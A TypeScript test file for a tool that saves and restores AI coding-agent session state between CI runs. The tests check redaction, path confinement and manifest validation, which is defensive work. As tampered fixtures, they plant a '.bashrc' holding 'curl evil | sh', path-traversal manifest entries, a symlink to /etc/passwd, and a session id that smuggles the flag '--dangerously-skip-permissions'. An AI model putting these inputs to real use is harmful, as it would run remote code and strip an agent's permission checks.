/**
 * Session state carried across runs, without a CLI: capture and restore with
 * a stand-in backend, the local store, and every registered backend's
 * sessionPaths().
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { agentBackend } from "../../src/agents/registry.js";
import type { AgentBackend, AgentContext } from "../../src/agents/types.js";
import { AGENT_BACKENDS, type Settings } from "../../src/config/schema.js";
import { parseSettings } from "../../src/config/parse.js";
import type { Logger } from "../../src/logger.js";
import type { RunResult } from "../../src/result.js";
import { prepareSessionCarry } from "../../src/session/carry.js";
import { captureSession, isConfigPath, readSessionManifest, restoreSession, SESSION_MANIFEST } from "../../src/session/state.js";
import { DirSessionStore } from "../../src/session/store.js";
import { sessionKey, threadNumber, workflowIdentity } from "../../src/session/thread.js";
import { Redactor } from "../../src/shared/redact.js";
import { makeRepo } from "./helpers.js";

const SECRET = "session-Secret-0042";
const redactor = new Redactor([SECRET]);
const tmp = (p: string) => mkdtempSync(path.join(os.tmpdir(), p));

function recorder(): Logger & { lines: string[] } {
  const lines: string[] = [];
  return {
    lines,
    debug: (m) => lines.push(`debug: ${m}`),
    info: (m) => lines.push(m),
    warning: (m) => lines.push(`warning: ${m}`),
    error: (m) => lines.push(`error: ${m}`),
    group: (_t, fn) => fn(),
  };
}

/** A backend whose session lives in ~/.fake/sessions/ and ~/.fake/state.db (like codex/opencode). */
const fake = { ...agentBackend("command"), name: "claude", sessionPaths: (ctx: AgentContext) => [path.join(ctx.layout.home, ".fake/sessions"), path.join(ctx.layout.home, ".fake/state.db")] } as AgentBackend;

function context(workspace: string, settings?: Settings): AgentContext {
  const root = tmp("session-ctx-");
  const home = path.join(root, "home");
  mkdirSync(home, { recursive: true });
  const s = settings ?? parseSettings({ agent: "command", "agent-command": "true", prompt: "p" }, { cwd: workspace });
  return {
    agent: s.agent,
    run: s.run,
    layout: { workspace, home, tmp: path.join(root, "tmp"), outputsDir: path.join(root, "outputs"), readOnlyPaths: [] },
    runContext: "",
    log: recorder(),
  };
}

function plantSession(home: string, id: string): void {
  mkdirSync(path.join(home, ".fake/sessions/sub"), { recursive: true });
  writeFileSync(path.join(home, ".fake/sessions", `${id}.jsonl`), `{"turn":1,"text":"key ${SECRET}"}\n`);
  writeFileSync(path.join(home, ".fake/sessions/sub/index"), "idx\n");
  writeFileSync(path.join(home, ".fake/state.db"), Buffer.concat([Buffer.from([0, 1, 2]), Buffer.from(SECRET), Buffer.from([3])]));
  writeFileSync(path.join(home, ".fake/config.json"), '{"not":"session"}');
  symlinkSync("/etc/passwd", path.join(home, ".fake/sessions/link"));
}

describe("capture and restore", () => {
  it("round-trips the backend's files, redacted, and nothing else", async () => {
    const ws = makeRepo({ "a.txt": "a\n" });
    const ctx = context(ws);
    plantSession(ctx.layout.home, "sess-1");
    const out = tmp("session-out-");
    const log = recorder();
    const manifest = await captureSession(fake, ctx, { sessionId: "sess-1", agentVersion: "1.2.3" }, out, redactor, log);
    expect(manifest).toMatchObject({ version: 1, backend: "claude", sessionId: "sess-1", workspace: ws, agentVersion: "1.2.3" });
    expect(manifest!.files).toEqual([".fake/sessions/sess-1.jsonl", ".fake/sessions/sub/index", ".fake/state.db"]);
    expect(readFileSync(path.join(out, "home/.fake/sessions/sess-1.jsonl"), "utf8")).toBe('{"turn":1,"text":"key ***"}\n');
    const db = readFileSync(path.join(out, "home/.fake/state.db"));
    expect(db.length).toBe(3 + SECRET.length + 1);
    expect(db.includes(Buffer.from(SECRET))).toBe(false);

    const next = context(ws);
    const read = await readSessionManifest(out);
    expect("manifest" in read).toBe(true);
    if (!("manifest" in read)) return;
    expect(await restoreSession(fake, next, out, read.manifest)).toEqual({ restored: 3, refused: [] });
    expect(readFileSync(path.join(next.layout.home, ".fake/sessions/sub/index"), "utf8")).toBe("idx\n");
    expect(existsSync(path.join(next.layout.home, ".fake/config.json"))).toBe(false);
    expect(existsSync(path.join(next.layout.home, ".fake/sessions/link"))).toBe(false);
  });

  it("restores nothing outside the backend's session paths, whatever the manifest says", async () => {
    const ws = makeRepo({ "a.txt": "a\n" });
    const dir = tmp("session-tampered-");
    mkdirSync(path.join(dir, "home/.fake/sessions"), { recursive: true });
    writeFileSync(path.join(dir, "home/.fake/sessions/ok.jsonl"), "{}\n");
    writeFileSync(path.join(dir, "home/.bashrc"), "curl evil | sh\n");
    const manifest = { version: 1 as const, backend: "claude" as const, sessionId: "s", workspace: ws, savedAt: "", files: [".fake/sessions/ok.jsonl", ".bashrc", "../escape", ".fake/sessions/../../.bashrc"] };
    const ctx = context(ws);
    const { restored, refused } = await restoreSession(fake, ctx, dir, manifest);
    expect(restored).toBe(1);
    expect(refused).toEqual([".bashrc", "../escape", ".fake/sessions/../../.bashrc"]);
    expect(existsSync(path.join(ctx.layout.home, ".bashrc"))).toBe(false);
  });

  it("validates the manifest: a session id that could pass as a CLI flag is refused", async () => {
    const dir = tmp("session-manifest-");
    writeFileSync(path.join(dir, SESSION_MANIFEST), JSON.stringify({ version: 1, backend: "claude", sessionId: "--dangerously-skip-permissions", workspace: "/w", savedAt: "", files: [] }));
    const read = await readSessionManifest(dir);
    expect("problem" in read && read.problem).toMatch(/sessionId/);
    expect("problem" in (await readSessionManifest(tmp("empty-")))).toBe(true);
  });
});

describe("carrying a session between runs (local store)", () => {
  const result = (sessionId?: string) => ({ sessionId }) as RunResult;

  it("saves after a run and resumes it with session: continue", async () => {
    const ws = makeRepo({ "a.txt": "a\n" });
    const store = new DirSessionStore(tmp("state-dir-"));
    const key = sessionKey(7);

    // Run 1: a new session, saved afterwards.
    const s1 = parseSettings({ agent: "command", "agent-command": "true", prompt: "p" }, { cwd: ws });
    const log1 = recorder();
    const first = await prepareSessionCarry({ settings: s1, store, key, workDir: tmp("work-"), log: log1, redactor });
    expect(first.run.resumeSessionId).toBeUndefined();
    const ctx1 = context(ws, s1);
    plantSession(ctx1.layout.home, "sess-A");
    await first.hooks.restore(fake, ctx1);
    await first.hooks.capture(fake, ctx1, result("sess-A"));
    expect((await first.save()).map((s) => s.where).join("\n")).toContain(path.join("sessions", "agent-session-7"));

    // Run 2: continue → resumes sess-A with its files in the fresh HOME.
    const s2 = parseSettings({ agent: "command", "agent-command": "true", prompt: "p", session: "continue" }, { cwd: ws });
    expect(s2.run.continueLast).toBe(true);
    const log2 = recorder();
    const second = await prepareSessionCarry({ settings: { ...s2, agent: { ...s2.agent, backend: "claude" } }, store, key, workDir: tmp("work-"), log: log2, redactor });
    expect(second.run.continueLast).toBe(false);
    expect(second.run.resumeSessionId).toBe("sess-A");
    const ctx2 = context(ws, s2);
    await second.hooks.restore(fake, ctx2);
    expect(readFileSync(path.join(ctx2.layout.home, ".fake/sessions/sess-A.jsonl"), "utf8")).toContain("key ***");
    expect(log2.lines.join("\n")).toContain("Session: resuming sess-A from");

    // Another agent on the same thread starts fresh, and says why.
    const log3 = recorder();
    const other = await prepareSessionCarry({ settings: { ...s2, agent: { ...s2.agent, backend: "gemini" } }, store, key, workDir: tmp("work-"), log: log3, redactor });
    expect(other.run.resumeSessionId).toBeUndefined();
    expect(log3.lines.join("\n")).toContain("belongs to agent 'claude', not 'gemini'. Starting a new session.");
  });

  it("says so when there is nothing to continue, and never passes 'continue' on to the CLI", async () => {
    const ws = makeRepo({ "a.txt": "a\n" });
    const s = parseSettings({ agent: "command", "agent-command": "true", prompt: "p", session: "continue" }, { cwd: ws });
    const log = recorder();
    const none = await prepareSessionCarry({ settings: s, store: new DirSessionStore(tmp("state-dir-")), key: sessionKey(9), workDir: tmp("work-"), log, redactor });
    expect(none.run).toMatchObject({ continueLast: false });
    expect(none.run.resumeSessionId).toBeUndefined();
    expect(log.lines).toContain("Session: no saved session 'agent-session-9' found for this thread. Starting a new session.");

    const log2 = recorder();
    await prepareSessionCarry({ settings: s, workDir: tmp("work-"), log: log2, redactor });
    expect(log2.lines.join("\n")).toContain("this run is not on an issue or pull request. Starting a new session.");
  });
});

describe("what a saved state may not carry", () => {
  it("configuration names are never session files, wherever they sit", () => {
    for (const p of [".claude/projects/x/settings.json", ".codex/sessions/config.toml", ".local/share/opencode/snapshot/p/config", ".local/share/opencode/snapshot/p/hooks/pre-commit", ".gemini/tmp/h/.mcp.json"])
      expect(isConfigPath(p), p).toBe(true);
    for (const p of [".claude/projects/-home-hooks/abc.jsonl", ".codex/sessions/2025/01/01/rollout-1.jsonl", ".gemini/tmp/h/chats/session-1.json"]) expect(isConfigPath(p), p).toBe(false);
  });

  it("a workflow is its file, whatever ref it ran from", () => {
    expect(workflowIdentity("o/r/.github/workflows/agent.yml@refs/pull/3/merge")).toBe("o/r/.github/workflows/agent.yml");
    expect(workflowIdentity("o/r/.github/workflows/agent.yml@refs/heads/main")).toBe("o/r/.github/workflows/agent.yml");
    expect(workflowIdentity(undefined)).toBeUndefined();
  });
});

describe("thread numbers", () => {
  it("come from issues, PRs and comments on either", async () => {
    const write = (doc: unknown) => {
      const f = path.join(tmp("event-"), "event.json");
      writeFileSync(f, JSON.stringify(doc));
      return f;
    };
    expect(await threadNumber(write({ issue: { number: 5, title: "x" }, comment: { id: 1 } }))).toBe(5);
    expect(await threadNumber(write({ pull_request: { number: 12 }, review: {} }))).toBe(12);
    expect(await threadNumber(write({ number: 3, pull_request: { number: "bad" } }))).toBe(3);
    expect(await threadNumber(write({ schedule: "* * * * *" }))).toBeUndefined();
    expect(await threadNumber(undefined)).toBeUndefined();
  });
});

describe("every registered backend", () => {
  for (const name of AGENT_BACKENDS) {
    const backend = agentBackend(name);
    it(`${name}: session paths lie inside the agent's HOME`, () => {
      const ws = makeRepo({ "a.txt": "a\n" });
      const ctx = context(ws);
      for (const p of backend.sessionPaths(ctx)) {
        const rel = path.relative(ctx.layout.home, path.resolve(ctx.layout.home, p));
        expect(rel.startsWith("..") || path.isAbsolute(rel), `${p} is outside HOME`).toBe(false);
        expect(rel).not.toBe("");
      }
    });
  }
});
